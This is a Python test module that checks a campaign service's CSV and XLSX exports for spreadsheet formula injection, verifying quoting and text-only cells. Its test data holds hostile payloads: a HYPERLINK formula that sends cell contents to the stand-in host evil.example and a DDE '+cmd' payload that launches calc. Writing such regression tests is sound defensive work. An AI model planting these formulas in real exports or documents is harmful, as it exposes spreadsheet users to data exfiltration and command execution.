"""Issue 24, spreadsheet formula injection: campaign names, grid titles and item labels
that begin with ``=``, ``+``, ``-`` or ``@`` came out as live formulas in the XLSX results
and unescaped in the CSV exports. Every export is read back as a spreadsheet tool would:
no formula cell in the workbooks (text kept as text, unchanged), and in the CSVs each such
text behind a single quote (OWASP's CSV-injection guidance) while numbers stay numbers."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from typing import Any
from zoneinfo import ZoneInfo

import openpyxl
from aiohttp import web
from aiohttp.test_utils import TestClient

from campaigns.plan.formats import to_csv
from campaigns.plan.planner import PlannedCall
from campaigns.web.exports import calls_csv
from service.web.cells import TRIGGERS
from tests.campaigns.web.test_campaigns_api import (
    CLOSED_MESSAGE_ANSWERS,
    GRID_TOML,
    body,
    calls_of,
    evaluate,
)

Client = TestClient[web.Request, web.Application]

LINK = '=HYPERLINK("http://evil.example/?"&A1,"cliquez")'
SUM = "=1+2"
CMD = "+cmd|' /C calc'!A0"
AT = "@SUM(1)"
MINUS = "-2+3"
HOSTILE = (LINK, SUM, CMD, AT, MINUS)


def hostile_grid() -> str:
    """The closing-message grid with a hostile name, section title and item labels."""
    text = GRID_TOML.read_text().replace('slug = "message-fermeture"', 'slug = "piege"')
    text = text.replace('name = "Message hors horaires d\'ouverture"', f"name = '{SUM}'")
    text = text.replace('title = "Message d\'accueil"', f"title = '{LINK}'")
    text = text.replace('label = "Le message nomme la mairie ou le service"', f'label = "{CMD}"')
    text = text.replace('label = "Le message donne les horaires d\'ouverture"', f"label = '{AT}'")
    return text.replace(
        'label = "Un autre moyen de joindre le service est proposé (site, courriel, démarche '
        'en ligne)"',
        f"label = '{MINUS}'",
    )


async def hostile_campaign(client: Client) -> int:
    resp = await client.post(
        "/api/v1/grids",
        data=hostile_grid().encode(),
        headers={"Content-Type": "application/toml"},
    )
    assert resp.status == 201, await resp.text()
    grid = await (await client.get("/api/v1/grids/piege")).json()
    labels = [i["label"] for s in grid["sections"] for i in s["items"]]
    assert {SUM, LINK, CMD, AT, MINUS} <= {
        grid["name"],
        *(s["title"] for s in grid["sections"]),
        *labels,
    }
    scenarios = [{"id": "cni", "question": CMD, "expected": AT}]
    resp = await client.post(
        "/api/v1/campaigns", json=body(name=LINK, grid="piege", scenarios=scenarios)
    )
    assert resp.status == 201, await resp.text()
    cid: int = (await resp.json())["id"]
    call = (await calls_of(client, cid))[0]
    answers = CLOSED_MESSAGE_ANSWERS
    assert (await evaluate(client, call["id"], answers)).status == 201
    return cid


def csv_cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def assert_csv_neutral(rows: list[list[str]], expected: set[str]) -> None:
    """No cell begins with a trigger unless it is a plain number; each hostile text that
    was exported is there behind its single quote."""
    cells = [c for row in rows for c in row]
    for c in cells:
        if c.startswith(TRIGGERS):  # a number ("-0.5") is the only thing allowed to
            assert c.lstrip("+-").replace(".", "", 1).isdigit(), c  # start so
    quoted = {c[1:] for c in cells if c.startswith("'")}
    assert expected <= quoted, (expected - quoted, rows[:3])


async def test_results_csv_tables_are_neutralised(client: Client) -> None:
    cid = await hostile_campaign(client)
    seen: set[str] = set()
    for table in ("services", "sections", "items", "strata", "calls"):
        resp = await client.get(f"/api/v1/campaigns/{cid}/results?format=csv&table={table}")
        assert resp.status == 200, await resp.text()
        rows = csv_cells(await resp.text())
        assert rows[1][0] == str(cid)  # the campaign id: a number, as it was
        assert_csv_neutral(rows, set())
        seen |= {c[1:] for row in rows for c in row if c.startswith("'")}
    assert {LINK, CMD, AT, MINUS} <= seen  # section title, item labels


async def test_results_xlsx_has_no_formula_cell(client: Client) -> None:
    cid = await hostile_campaign(client)
    resp = await client.get(f"/api/v1/campaigns/{cid}/results?format=xlsx")
    assert resp.status == 200
    book = openpyxl.load_workbook(io.BytesIO(await resp.read()))
    texts: list[Any] = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                texts.append(cell.value)
    # unchanged text: the campaign's name, the section's title, the items' labels
    assert {LINK, CMD, AT, MINUS} <= set(texts)
    synthesis = {r[0].value: r[1] for r in book["Synthèse"].iter_rows(min_row=2)}
    assert synthesis["Campagne"].value == LINK
    assert synthesis["Campagne"].data_type == "s"
    assert str(synthesis["Grille"].value).startswith(SUM)
    assert isinstance(synthesis["Prévus"].value, int)  # numbers stay numbers


async def test_plan_csv_keeps_numbers_as_they_are(client: Client) -> None:
    """The plan's CSV (``POST /api/v1/campaigns/plan?format=csv``): the campaign file
    admits no free text there (slugs, E.164 numbers, e-mails), and the numbers to call,
    which begin with ``+``, stay numbers rather than gaining a quote."""
    preview = await client.post("/api/v1/campaigns/plan?format=csv", json=body())
    assert preview.status == 200, await preview.text()
    rows = csv_cells(await preview.text())
    assert_csv_neutral(rows, set())
    numbers = {row[rows[0].index("number")] for row in rows[1:]}
    assert numbers
    assert all(n.startswith("+33") for n in numbers)


def test_plan_and_calls_csv_neutralise_what_they_are_given() -> None:
    """Defence in depth: were a scenario or an evaluator ever free text, the plan's CSV
    (``campaigns.plan.formats.to_csv``) and the calls' (``exports.calls_csv``) would
    still neutralise it."""
    calls = [
        PlannedCall(
            scheduled_at=datetime(2026, 11, 16, 9, tzinfo=UTC),
            service="accueil",
            number="+33387550101",
            scenario=text,
            evaluator=AT,
            mode="manual",
            half_day="morning",
            moment="core",
        )
        for text in HOSTILE
    ]
    plan = csv_cells(to_csv(calls, ZoneInfo("Europe/Paris")))
    assert_csv_neutral(plan, set(HOSTILE) | {AT})
    assert plan[1][plan[0].index("number")] == "+33387550101"
    as_json: list[Any] = [
        {**c.as_dict(), "id": i, "state": "planned", "evaluation": None}
        for i, c in enumerate(calls, start=1)
    ]
    listed = csv_cells(calls_csv(as_json))
    assert_csv_neutral(listed, set(HOSTILE) | {AT})
    assert [row[0] for row in listed[1:]] == ["1", "2", "3", "4", "5"]
